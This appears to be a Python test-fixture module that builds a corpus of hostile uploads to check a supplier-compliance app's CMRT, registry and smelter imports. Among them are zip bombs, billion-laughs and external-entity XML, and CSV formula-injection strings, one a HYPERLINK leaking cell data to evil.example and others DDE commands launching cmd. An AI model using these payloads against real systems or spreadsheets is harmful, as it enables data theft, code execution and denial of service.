"""The hostile corpus: every upload a careless or malicious supplier could send, made in memory
by the tests (no binaries are stored), each with the outcome every path must give.

One case is a file name, a builder of its bytes (built once per test session) and what each
reader says about it:

- ``cmrt``: the CMRT reader, behind the supplier portal, the bulk import and the commands;
  ``Refused(message)`` or ``Read(company)`` (a readable CMRT and its declared company name);
- ``registry``: the registry import of suppliers (CSV/XLSX); ``Problems(messages)`` (the file
  refused, its file-level problems) or ``Rows(new, errors)`` (the preview);
- ``reference``: the smelter reference import; ``Refused(message)`` or ``Listed(kind, created)``;
- ``overrides``: where a path answers before the reader does, keyed by path (see ``PATHS``):
  ``FormError`` (an upload form refuses an empty file), ``NotReceived`` (a bulk import does
  not keep an empty member as a submission); ``Skipped`` (a bulk import passes over a CSV) is
  derived from the name.

Every case goes through every path, so a renamed PDF is also tried as a registry import and
a suppliers CSV also as a CMRT upload. The builders of hostile containers come from
``tests.cmrt.hostile`` (shared with tests/cmrt/test_hostile.py); the CMRTs from
``tests.cmrt.build6x``, patched at the XML level where openpyxl would refuse or rewrite the text
(a leading "=" becomes a formula in openpyxl, and control characters are illegal in its API).
"""

from __future__ import annotations

import codecs
import io
import zipfile
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from pathlib import PurePath
from xml.sax.saxutils import escape

import openpyxl
from docx import Document

from tests.cmrt import hostile
from tests.cmrt.build6x import COMPANY, SMELTERS, cmrt_6x
from tests.cmrt.builders import encrypt, save
from tests.hostile import messages as m

# --- What each path must give ----------------------------------------------------------------


@dataclass(frozen=True)
class Refused:
    """Nothing read: the path says this, word for word."""

    message: str


@dataclass(frozen=True)
class FormError:
    """The upload form refused the file (the field's error) before any service saw it."""

    message: str


@dataclass(frozen=True)
class Read:
    """A CMRT read and checked; ``company`` is the declared company name as read."""

    company: str

    @property
    def stored_company(self) -> str:
        return self.company[:255]  # Submission.declared_company


@dataclass(frozen=True)
class Problems:
    """A registry import refused the whole file: its file-level problems, word for word."""

    messages: tuple[str, ...]


@dataclass(frozen=True)
class Rows:
    """A registry preview: ``new`` suppliers, and the row problems, word for word."""

    new: int = 0
    errors: tuple[str, ...] = ()


@dataclass(frozen=True)
class Listed:
    """A reference preview: the kind of list and how many smelters it creates."""

    kind: str
    created: int


@dataclass(frozen=True)
class NotReceived:
    """A bulk import refused to keep the file as a submission (the job's archive holds it)."""

    message: str


@dataclass(frozen=True)
class Skipped:
    """A bulk import lists the file but does not import it."""

    message: str


Outcome = Refused | FormError | Read | Problems | Rows | Listed | NotReceived | Skipped

# Path labels: the summary counts cases per label; overrides are keyed by them.
PORTAL = "portal upload"
BULK_ALONE = "bulk import, each file alone"
BULK_ZIP = "bulk import, the corpus in one zip"
CMRT_CHECK = "manage.py cmrt_check"
IMPORT_CMRT = "manage.py import_cmrt"
REGISTRY = "registry import"
REFERENCE = "reference import"
PATHS = (PORTAL, BULK_ALONE, BULK_ZIP, CMRT_CHECK, IMPORT_CMRT, REGISTRY, REFERENCE)

CATEGORIES = (
    "renamed non-spreadsheet",
    "truncated or corrupt",
    "zip bomb",
    "XML entity bomb",
    "external entity",
    "huge row count",
    "formula injection",
    "over-long field",
    "unusual Unicode",
    "encrypted",
    "CSV encoding",
)


@dataclass(frozen=True)
class Case:
    name: str  # the uploaded file name; unique in the corpus (the bulk zip's paths)
    category: str
    build: Callable[[], bytes] = field(repr=False, compare=False)
    cmrt: Outcome
    registry: Outcome
    reference: Outcome
    overrides: Mapping[str, Outcome] = field(default_factory=dict, compare=False)

    @property
    def content(self) -> bytes:
        if self.name not in _BUILT:
            _BUILT[self.name] = self.build()
        return _BUILT[self.name]

    @property
    def is_table(self) -> bool:
        """Made for the registry or reference import rather than as a CMRT."""
        return PurePath(self.name).suffix == ".csv" or self.name.startswith(
            ("suppliers-", "smelters-")
        )

    def expected(self, path: str) -> Outcome:
        """What ``path`` must say about this file."""
        if path in self.overrides:
            return self.overrides[path]
        if path == REGISTRY:
            return self.registry
        if path == REFERENCE:
            return self.reference
        if path in (BULK_ALONE, BULK_ZIP, IMPORT_CMRT) and PurePath(self.name).suffix == ".csv":
            # The bulk walk skips what is neither named nor shaped like a workbook.
            return Skipped(m.NOT_A_SPREADSHEET)
        return self.cmrt

    def __str__(self) -> str:  # the pytest id
        return self.name


_BUILT: dict[str, bytes] = {}

# --- Strings suppliers type -----------------------------------------------------------------

# OWASP "CSV injection": text a spreadsheet runs as a formula when it opens an export.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
EQUALS_CMD = "=cmd|' /C notepad'!A0"
INJECTIONS = (HYPERLINK, DDE, MINUS, AT_SUM, EQUALS_CMD)

LONG = 100_000  # characters: far past Excel's own 32,767 per cell
LONG_COMPANY = "Overlong Holdings " + "x" * (LONG - 18)
LONG_CONTACT = "Pat " + "y" * (LONG - 4)
LONG_SMELTER = "Endless Refinery " + "z" * (LONG - 17)

RTL = "Invoice \u202egnp.exe"  # RIGHT-TO-LEFT OVERRIDE: shows as "Invoice exe.png"
ZWJ_FAMILY = "\U0001f469\u200d\U0001f469\u200d\U0001f467"  # one glyph of five code points
COMBINING = "Cafe\u0301 Zu\u0308rich"  # e + COMBINING ACUTE, u + COMBINING DIAERESIS
UNICODE_COMPANY = f"{RTL} {ZWJ_FAMILY} {COMBINING} 株式会社 شركة Ltd"
UNICODE_SMELTER = "\u200bHidden\u200b Smelter \U0001f525 \ufeffBOM"
# In a workbook, control characters are written as _xHHHH_ escapes; the reader unescapes
# them. NUL is dropped (PostgreSQL refuses it in text); the others are kept as sent.
CONTROL_COMPANY_SENT = "Ac\x00me\x07 Tools\x1b\x0b GmbH"
CONTROL_COMPANY_READ = "Acme\x07 Tools\x1b\x0b GmbH"

# --- Builders -------------------------------------------------------------------------------


def _xml_text(text: str) -> str:
    """``text`` as the inside of <t>: XML-escaped, control characters as Excel's _xHHHH_."""
    return "".join(
        f"_x{ord(char):04X}_" if ord(char) < 32 and char not in "\t\n\r" else char
        for char in escape(text)
    )


def with_texts(content: bytes, texts: Mapping[str, str]) -> bytes:
    """Replace placeholder words in every worksheet's inline strings with ``texts``, as Excel
    stores a text cell (so "=..." stays text and control characters survive)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    parts: dict[str, hostile.Part] = {}
    for name in source.namelist():
        if not name.startswith("xl/worksheets/"):
            continue
        xml = source.read(name).decode()
        changed = xml
        for placeholder, text in texts.items():
            changed = changed.replace(
                f"<t>{placeholder}</t>", f'<t xml:space="preserve">{_xml_text(text)}</t>'
            )
        if changed != xml:
            parts[name] = changed
    return hostile.repack(content, parts)


def cmrt_with(
    *,
    company: str,
    contact: str = "Pat Lee",
    authorizer: str = "Sam Ray",
    smelters: Iterable[str] = (),
    cids: Iterable[str] = (),
) -> bytes:
    """A CMRT 6.5 declaring ``company``, with the four standard rows, Gold rows by typed smelter
    ID (``cids``) and "Smelter not listed" rows named ``smelters`` (Gold, Germany)."""
    texts = {"PLACEHOLDERCOMPANY": company, "PLACEHOLDERCONTACT": contact}
    texts["PLACEHOLDERAUTHORIZER"] = authorizer
    rows = list(SMELTERS) + [{"A": cid, "B": "Gold"} for cid in cids]
    for number, name in enumerate(smelters):
        texts[f"PLACEHOLDERSMELTER{number}"] = name
        rows.append(
            {
                "B": "Gold",
                "C": "Smelter not listed",
                "D": f"PLACEHOLDERSMELTER{number}",
                "E": "GERMANY",
            }
        )
    content = cmrt_6x(
        company={
            **COMPANY,
            "name": "PLACEHOLDERCOMPANY",
            "contact_name": "PLACEHOLDERCONTACT",
            "authorizer": "PLACEHOLDERAUTHORIZER",
        },
        smelters=tuple(rows),
    )
    return with_texts(content, texts)


def cmrt_rows_past_the_limit(rows: int = 25_000) -> bytes:
    """A CMRT whose Smelter List has notes down to row ``rows``: read up to the reader's
    20,000-row limit, the rest reported."""
    content = cmrt_6x(company={**COMPANY, "name": "Longlist Metals"}, footer=False)
    part = "xl/worksheets/sheet5.xml"  # Smelter List (tests.cmrt.builders.CMRT_SHEETS order)
    xml = zipfile.ZipFile(io.BytesIO(content)).read(part).decode()
    notes = "".join(
        f'<row r="{r}"><c r="Q{r}" t="inlineStr"><is><t>see note</t></is></c></row>'
        for r in range(9, rows + 1)
    )
    return hostile.repack(content, {part: xml.replace("</sheetData>", notes + "</sheetData>")})


def truncated() -> bytes:
    content = cmrt_6x(company={**COMPANY, "name": "Truncated Ltd"})
    return content[: len(content) // 2]  # the zip directory sits at the end: gone


def corrupt_entry() -> bytes:
    """A sound zip directory whose Declaration sheet's deflate stream is scrambled."""
    content = bytearray(cmrt_6x(company={**COMPANY, "name": "Scrambled Ltd"}))
    info = zipfile.ZipFile(io.BytesIO(bytes(content))).getinfo("xl/worksheets/sheet4.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra) + 50
    for offset in range(start, start + 200):
        content[offset] ^= 0x5A
    return bytes(content)


def external_entity_http() -> bytes:
    return hostile.with_sheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>',
        prolog='<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/steal">]>',
    )


def encrypted_damaged_header() -> bytes:
    """An OLE container shaped like an encrypted .xlsx whose EncryptionInfo is garbage."""
    return hostile.compound_file(
        {
            "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00" + bytes(200),
            "EncryptedPackage": hostile.garbage(3000, seed=7),
        }
    )


def pdf() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n" + hostile.garbage(
        3000, seed=2
    )


def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + hostile.garbage(800, seed=3)


def docx() -> bytes:
    document = Document()
    document.add_paragraph("Please find our CMRT attached.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.bin", b"\x83\x01\x00")
    return buffer.getvalue()


def xlsx_table(rows: Iterable[Iterable[object]]) -> bytes:
    """A one-sheet .xlsx; every text is a text cell (openpyxl would make "=..." a formula)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(list(row))
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    return save(workbook)


def csv_text(rows: Iterable[Iterable[str]]) -> str:
    """CSV as Excel writes it: fields quoted when they hold a comma, quote or line break."""

    def field_(value: str) -> str:
        if any(char in value for char in ',"\r\n'):
            return '"' + value.replace('"', '""') + '"'
        return value

    return "".join(",".join(field_(value) for value in row) + "\r\n" for row in rows)


SUPPLIER_HEADER = ("name", "country", "notes")
SMELTER_HEADER = ("Metal", "Smelter ID", "Standard Smelter Name", "Country")


def suppliers_csv(names: Iterable[str], *, encoding: str = "utf-8", bom: bytes = b"") -> bytes:
    rows = [SUPPLIER_HEADER, *((name, "DE", "") for name in names)]
    return bom + csv_text(rows).encode(encoding)


def smelters_rows(names: Iterable[str], first_cid: int = 990_001) -> list[tuple[str, ...]]:
    return [
        SMELTER_HEADER,
        *(("Gold", f"CID{first_cid + n:06d}", name, "GERMANY") for n, name in enumerate(names)),
    ]


# --- Expected outcomes shared by many cases -------------------------------------------------


def unknown_columns(*headers: str) -> tuple[str, ...]:
    """The registry's file errors for a first row of ``headers`` (none of them known), in the
    order ``suppliers.services.transfer._check_table`` lists them."""
    known = "id, name, country, vendor_number, duns_number, lei, status, tags, notes"
    problems = [
        f"Column “{header}” is not known; the columns are: {known}." for header in headers if header
    ]
    problems.append("Required columns are missing: name.")
    return tuple(problems)


def problems(*messages: str) -> Problems:
    return Problems(messages)


CMRT_LOOKUP = Listed("lookup_tab", 5)  # tests.cmrt.build6x.LOOKUP: a CMRT's own Smelter Look-up tab
SUPPLIERS_NOT_A_CMRT = Refused(m.NOT_A_WORKBOOK)  # a CSV is no workbook
# A CMRT's first sheet (Revision) as a registry table: no known column in row 1.
CMRT_AS_REGISTRY = problems("Row 1 must hold the column names; it is empty.")
# A smelter list as a registry table: only "Country" is a registry column.
SMELTERS_AS_REGISTRY = Problems(unknown_columns("Metal", "Smelter ID", "Standard Smelter Name"))


def _cases() -> tuple[Case, ...]:
    injected_company = Read(HYPERLINK)
    cases = [
        # --- renamed non-spreadsheets ---------------------------------------------------------
        Case(
            "quarterly-report.pdf.xlsx",
            "renamed non-spreadsheet",
            pdf,
            cmrt=Refused(m.NOT_A_WORKBOOK),
            registry=problems(m.TABLE_BINARY),
            reference=Refused(m.REFERENCE_BINARY),
        ),
        Case(
            "logo.png.xls",
            "renamed non-spreadsheet",
            png,
            cmrt=Refused(m.NOT_A_WORKBOOK),
            registry=problems(m.TABLE_BINARY),
            reference=Refused(m.REFERENCE_BINARY),
        ),
        Case(
            "cover-letter.docx.xlsx",
            "renamed non-spreadsheet",
            docx,
            cmrt=Refused(m.NOT_A_WORKBOOK_ZIP),
            registry=problems(m.TABLE_NOT_A_WORKBOOK),
            reference=Refused(m.NOT_A_WORKBOOK_ZIP),
        ),
        Case(
            "memo.doc.xls",
            "renamed non-spreadsheet",
            hostile.word_document,
            cmrt=Refused(m.WORD),
            registry=problems(m.TABLE_OLD_OR_ENCRYPTED),
            reference=Refused(m.WORD),
        ),
        Case(
            "binary-workbook.xlsb.xlsx",
            "renamed non-spreadsheet",
            xlsb,
            cmrt=Refused(m.XLSB),
            registry=problems(m.TABLE_NOT_A_WORKBOOK),
            reference=Refused(m.XLSB),
        ),
        Case(
            "empty.xlsx",
            "renamed non-spreadsheet",
            lambda: b"",
            cmrt=Refused(m.EMPTY_FILE),
            registry=FormError(m.SUBMITTED_EMPTY),
            reference=FormError(m.SUBMITTED_EMPTY),
            overrides={
                PORTAL: FormError(m.SUBMITTED_EMPTY),
                BULK_ALONE: FormError(m.SUBMITTED_EMPTY),
                BULK_ZIP: NotReceived(m.RECEIVED_EMPTY),
                IMPORT_CMRT: NotReceived(m.RECEIVED_EMPTY),
            },
        ),
        # --- truncated and corrupt ------------------------------------------------------------
        Case(
            "truncated.xlsx",
            "truncated or corrupt",
            truncated,
            cmrt=Refused(m.DAMAGED_ZIP),
            registry=problems(m.DAMAGED_ZIP),
            reference=Refused(m.DAMAGED_ZIP),
        ),
        Case(
            "zip-header-then-garbage.xlsx",
            "truncated or corrupt",
            lambda: b"PK\x03\x04" + hostile.garbage(5000, seed=4),
            cmrt=Refused(m.DAMAGED_ZIP),
            registry=problems(m.DAMAGED_ZIP),
            reference=Refused(m.DAMAGED_ZIP),
        ),
        Case(
            "scrambled-sheet.xlsx",
            "truncated or corrupt",
            corrupt_entry,
            cmrt=Refused(m.damaged_part("xl/worksheets/sheet4.xml")),
            registry=problems(m.damaged_part("xl/worksheets/sheet4.xml")),
            reference=Refused(m.damaged_part("xl/worksheets/sheet4.xml")),
        ),
        Case(
            "unclosed-xml.xlsx",
            "truncated or corrupt",
            lambda: hostile.repack(
                hostile.small_workbook(), {hostile.SHEET: "<worksheet><sheetData>"}
            ),
            cmrt=Refused(m.not_well_formed(hostile.SHEET)),
            registry=problems(m.table_cannot_read("no element found: line 1, column 22")),
            reference=Refused(m.not_well_formed(hostile.SHEET)),
        ),
        Case(
            "shared-string-out-of-range.xlsx",
            "truncated or corrupt",
            lambda: hostile.with_shared_strings(
                ["name"],
                '<row r="1"><c r="A1" t="s"><v>7</v></c></row>'
                '<row r="2"><c r="A2" t="s"><v>0</v></c></row>',
            ),
            cmrt=Refused(m.calamine_refused("Cell string index not found in shared strings table")),
            registry=problems(m.table_cannot_read("list index out of range")),
            reference=Refused(
                m.calamine_refused("Cell string index not found in shared strings table")
            ),
        ),
        Case(
            "damaged-ole.xls",
            "truncated or corrupt",
            lambda: hostile.compound_file({"Workbook": hostile.garbage(8_000, seed=5)}),
            cmrt=Refused(m.XLS_DAMAGED),
            registry=problems(m.TABLE_OLD_OR_ENCRYPTED),
            reference=Refused(m.XLS_DAMAGED),
        ),
        Case(
            "ole-directory-loop.xls",
            "truncated or corrupt",
            hostile.directory_loop,
            cmrt=Refused(m.OLE_BROKEN),
            registry=problems(m.TABLE_OLD_OR_ENCRYPTED),
            reference=Refused(m.OLE_BROKEN),
        ),
        # --- zip bombs ------------------------------------------------------------------------
        Case(
            "zip-bomb-70mb.xlsx",
            "zip bomb",
            lambda: hostile.zip_bomb_by_size(megabytes=70),
            cmrt=Refused(m.UNPACKS_TOO_MUCH),
            registry=problems(m.UNPACKS_TOO_MUCH),
            reference=Refused(m.UNPACKS_TOO_MUCH),
        ),
        Case(
            "zip-bomb-ratio.xlsx",
            "zip bomb",
            lambda: hostile.zip_bomb_by_ratio(megabytes=60),
            cmrt=Refused(m.UNPACKS_TOO_MUCH),
            registry=problems(m.UNPACKS_TOO_MUCH),
            reference=Refused(m.UNPACKS_TOO_MUCH),
        ),
        Case(
            "zip-2001-parts.xlsx",
            "zip bomb",
            lambda: hostile.zip_with_entries(2_001),
            cmrt=Refused(m.TOO_MANY_PARTS),
            registry=problems(m.TOO_MANY_PARTS),
            reference=Refused(m.TOO_MANY_PARTS),
        ),
        Case(
            "zip-lying-sizes.xlsx",
            "zip bomb",
            hostile.lying_sizes,
            cmrt=Refused(m.damaged_part(hostile.SHEET)),
            registry=problems(m.damaged_part(hostile.SHEET)),
            reference=Refused(m.damaged_part(hostile.SHEET)),
        ),
        # --- XML entity bombs and external entities --------------------------------------------
        Case(
            "billion-laughs.xlsx",
            "XML entity bomb",
            hostile.billion_laughs_in_sheet,
            cmrt=Refused(m.DTD),
            registry=problems(m.DTD),
            reference=Refused(m.DTD),
        ),
        Case(
            "billion-laughs-shared-strings.xlsx",
            "XML entity bomb",
            hostile.billion_laughs_in_shared_strings,
            cmrt=Refused(m.DTD),
            registry=problems(m.DTD),
            reference=Refused(m.DTD),
        ),
        Case(
            "external-entity-file.xlsx",
            "external entity",
            hostile.external_entity,
            cmrt=Refused(m.DTD),
            registry=problems(m.DTD),
            reference=Refused(m.DTD),
        ),
        Case(
            "external-entity-http.xlsx",
            "external entity",
            external_entity_http,
            cmrt=Refused(m.DTD),
            registry=problems(m.DTD),
            reference=Refused(m.DTD),
        ),
        # --- huge row counts ------------------------------------------------------------------
        Case(
            "million-rows.xlsx",
            "huge row count",
            hostile.million_rows,
            cmrt=Refused(m.sheet_too_large("Declaration", "51")),
            registry=problems(m.UNPACKS_TOO_MUCH),
            reference=Refused(m.sheet_too_large("Declaration", "51")),
        ),
        Case(
            "far-apart-cells.xlsx",
            "huge row count",
            lambda: hostile.with_sheet(
                '<row r="1"><c r="A1"><v>1</v></c></row>'
                '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
            ),
            cmrt=Refused(m.too_many_rows("Declaration", "1,048,576")),
            registry=Problems((*unknown_columns("1"), m.TABLE_NO_ROWS)),
            reference=Refused(m.too_many_rows("Declaration", "1,048,576")),
        ),
        Case(
            "700000-empty-elements.xlsx",
            "huge row count",
            # 2.8 MB of "<x/>": calamine skips them in a blink; openpyxl spends ~9 µs on each.
            lambda: hostile.many_elements(700_000),
            cmrt=Refused(m.NOT_A_TEMPLATE),
            registry=problems(m.TABLE_TOO_MANY_ENTRIES),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        Case(
            "smelter-list-25000-rows.xlsx",
            "huge row count",
            cmrt_rows_past_the_limit,
            cmrt=Read("Longlist Metals"),
            registry=CMRT_AS_REGISTRY,
            reference=CMRT_LOOKUP,
        ),
        # --- encrypted ------------------------------------------------------------------------
        Case(
            "encrypted-unknown-password.xlsx",
            "encrypted",
            lambda: encrypt(cmrt_6x(company={**COMPANY, "name": "Secret Ltd"}), "s3cret!"),
            cmrt=Refused(m.PASSWORD),
            registry=problems(m.TABLE_OLD_OR_ENCRYPTED),
            reference=Refused(m.PASSWORD),
        ),
        Case(
            "encrypted-damaged-header.xlsx",
            "encrypted",
            encrypted_damaged_header,
            cmrt=Refused(m.XLS_DAMAGED),
            registry=problems(m.TABLE_OLD_OR_ENCRYPTED),
            reference=Refused(m.XLS_DAMAGED),
        ),
        Case(
            "encrypted-default-password.xlsx",
            "encrypted",
            lambda: encrypt(cmrt_6x(company={**COMPANY, "name": "Velvet Ltd"}), "VelvetSweatshop"),
            cmrt=Read("Velvet Ltd"),
            registry=problems(m.TABLE_OLD_OR_ENCRYPTED),
            reference=CMRT_LOOKUP,
        ),
        # --- names a spreadsheet would run, over-long and unusual text in CMRTs ----------------
        Case(
            "formula-injection.xlsx",
            "formula injection",
            lambda: cmrt_with(
                company=HYPERLINK, contact=DDE, authorizer=MINUS, smelters=(AT_SUM, EQUALS_CMD)
            ),
            cmrt=injected_company,
            registry=CMRT_AS_REGISTRY,
            reference=CMRT_LOOKUP,
        ),
        Case(
            "over-long-fields.xlsx",
            "over-long field",
            lambda: cmrt_with(company=LONG_COMPANY, contact=LONG_CONTACT, smelters=(LONG_SMELTER,)),
            cmrt=Read(LONG_COMPANY),
            registry=CMRT_AS_REGISTRY,
            reference=CMRT_LOOKUP,
        ),
        Case(
            "unicode-names.xlsx",
            "unusual Unicode",
            lambda: cmrt_with(company=UNICODE_COMPANY, contact=RTL, smelters=(UNICODE_SMELTER,)),
            cmrt=Read(UNICODE_COMPANY),
            registry=CMRT_AS_REGISTRY,
            reference=CMRT_LOOKUP,
        ),
        Case(
            "control-characters.xlsx",
            "unusual Unicode",
            lambda: cmrt_with(company=CONTROL_COMPANY_SENT, smelters=("Nul\x00 Refinery\x07",)),
            cmrt=Read(CONTROL_COMPANY_READ),
            registry=CMRT_AS_REGISTRY,
            reference=CMRT_LOOKUP,
        ),
        # --- registry tables ------------------------------------------------------------------
        Case(
            "suppliers.pdf.csv",
            "renamed non-spreadsheet",
            lambda: pdf() + b"%%EOF",
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=problems(m.TABLE_BINARY),
            reference=Refused(m.REFERENCE_BINARY),
        ),
        Case(
            "suppliers-formula-injection.csv",
            "formula injection",
            lambda: suppliers_csv(INJECTIONS),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=Rows(new=5),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        Case(
            "suppliers-formula-injection.xlsx",
            "formula injection",
            lambda: xlsx_table([SUPPLIER_HEADER, *((name, "DE", name) for name in INJECTIONS)]),
            cmrt=Refused(m.NOT_A_TEMPLATE),
            registry=Rows(new=5),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        Case(
            "suppliers-over-long-name.csv",
            "over-long field",
            lambda: suppliers_csv([LONG_COMPANY]),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=Rows(
                errors=(
                    f"row 2: name: Ensure this value has at most 200 characters (it has {LONG}).",
                )
            ),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        Case(
            "suppliers-field-over-csv-limit.csv",
            "over-long field",
            lambda: suppliers_csv(["Big Notes GmbH " + "n" * 200_000]),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=problems(m.csv_row_unreadable(2, "field larger than field limit (131072)")),
            reference=Refused(m.csv_row_unreadable(2, "field larger than field limit (131072)")),
        ),
        Case(
            "suppliers-200000-rows.csv",
            "huge row count",
            lambda: suppliers_csv(f"Supplier {n}" for n in range(200_000)),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=problems(m.table_too_many_rows(200_000)),
            reference=Refused(m.reference_too_many_rows()),
        ),
        Case(
            "suppliers-unicode.csv",
            "unusual Unicode",
            lambda: suppliers_csv([UNICODE_COMPANY, RTL, COMBINING, ZWJ_FAMILY + " Toys"]),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=Rows(new=4),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        Case(
            "suppliers-control-characters.csv",
            "unusual Unicode",
            lambda: suppliers_csv(["Bell\x07 Metals", "Escape\x1b[31m Red Ltd", "Form\x0cfeed AG"]),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=Rows(new=3),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        Case(
            "suppliers-nul.csv",
            "unusual Unicode",
            lambda: suppliers_csv(["Nul\x00 Metals"]),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=problems(m.TABLE_BINARY),
            reference=Refused(m.REFERENCE_BINARY),
        ),
        Case(
            "suppliers-surrogate-bytes.csv",
            "CSV encoding",
            # Lone surrogates as UTF-8 (what surrogateescape round trips), and bytes that
            # Windows-1252 leaves undefined: neither encoding the app tries reads them.
            lambda: b"name,country\r\nBad \xed\xa0\x80\x81\x8d Bytes,DE\r\n",
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=problems(m.TABLE_NOT_UTF8),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        Case(
            "suppliers-windows-1252.csv",
            "CSV encoding",
            lambda: suppliers_csv(["Café Métaux", "Müller Draht"], encoding="cp1252"),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=Rows(new=2),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        Case(
            "suppliers-utf8-bom-then-1252.csv",
            "CSV encoding",
            # Mixed encodings: a UTF-8 byte-order mark, then Windows-1252 text.
            lambda: suppliers_csv(["Crème Brûlée SARL"], encoding="cp1252", bom=codecs.BOM_UTF8),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=Rows(new=1),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        Case(
            "suppliers-utf16.csv",
            "CSV encoding",
            # Excel's "Unicode Text": UTF-16 with a byte-order mark, tab-separated.
            lambda: "name\tcountry\r\nÅngström Ab\tSE\r\n".encode("utf-16"),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=Rows(new=1),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        Case(
            "suppliers-bom-only.csv",
            "CSV encoding",
            lambda: codecs.BOM_UTF8,
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=problems(m.TABLE_EMPTY_CSV),
            reference=Refused(m.NOT_A_SMELTER_LIST),
        ),
        # --- reference tables -----------------------------------------------------------------
        Case(
            "smelters-formula-injection.csv",
            "formula injection",
            lambda: csv_text(smelters_rows(INJECTIONS)).encode(),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=SMELTERS_AS_REGISTRY,
            reference=Listed("facility_list", 5),
        ),
        Case(
            "smelters-formula-injection.xlsx",
            "formula injection",
            lambda: xlsx_table(smelters_rows(INJECTIONS, first_cid=990_101)),
            cmrt=Refused(m.NOT_A_TEMPLATE),
            registry=SMELTERS_AS_REGISTRY,
            reference=Listed("facility_list", 5),
        ),
        Case(
            "smelters-over-long-name.csv",
            "over-long field",
            lambda: csv_text(smelters_rows([LONG_SMELTER], first_cid=990_201)).encode(),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=SMELTERS_AS_REGISTRY,
            reference=Listed("facility_list", 1),
        ),
        Case(
            "smelters-unicode.csv",
            "unusual Unicode",
            lambda: csv_text(smelters_rows([UNICODE_SMELTER, RTL], first_cid=990_301)).encode(),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=SMELTERS_AS_REGISTRY,
            reference=Listed("facility_list", 2),
        ),
        Case(
            "smelters-60000-rows.csv",
            "huge row count",
            lambda: csv_text(smelters_rows(f"S{n}" for n in range(60_000))).encode(),
            cmrt=SUPPLIERS_NOT_A_CMRT,
            registry=problems(m.table_too_many_rows(60_000)),
            reference=Refused(m.reference_too_many_rows()),
        ),
    ]
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "file names are the bulk zip's paths: keep them unique"
    return tuple(cases)


CORPUS = _cases()


def cases(*, tables: bool | None = None) -> tuple[Case, ...]:
    """The corpus, or only its table cases (``tables=True``) or only the others (False)."""
    if tables is None:
        return CORPUS
    return tuple(case for case in CORPUS if case.is_table is tables)


def corpus_zip(selection: Iterable[Case] = CORPUS) -> bytes:
    """The cases as one zip, each under its name (the bulk import's "everything at once")."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for case in selection:
            archive.writestr(case.name, case.content)
    return buffer.getvalue()
